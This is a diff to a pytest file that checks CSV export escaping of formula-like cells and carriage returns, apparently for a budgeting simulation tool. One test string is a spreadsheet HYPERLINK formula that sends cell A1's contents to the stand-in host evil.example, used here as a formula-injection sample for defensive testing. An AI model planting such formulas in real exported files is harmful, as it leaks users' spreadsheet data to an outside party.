@@ -18,7 +18,17 @@ BASE = load_preset("base")
 @pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
 def test_text_that_starts_like_a_formula_gets_a_quote(prefix):
     text = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    assert formula_like(text) and csv_cell(text) == "'" + text
+    assert formula_like(text)
+    if prefix == "\r":  # shown as the escape \r, which no spreadsheet runs or splits on
+        assert csv_cell(text) == "\\r" + text[1:]
+    else:
+        assert csv_cell(text) == "'" + text
+
+
+def test_a_carriage_return_cannot_split_a_csv_row():
+    s = BASE.with_field("program.categories.0.name", "a\rb\x01")
+    rows = list(csv.reader(io.StringIO(csv_text(simulate(s)))))
+    assert "capex:a\\rb\\x01" in rows[0] and {len(r) for r in rows} == {len(rows[0])}
 
 
 @pytest.mark.parametrize("text", ["Servers", "capex:=1+1", " =1", "'quoted", "", "2025Q1"])
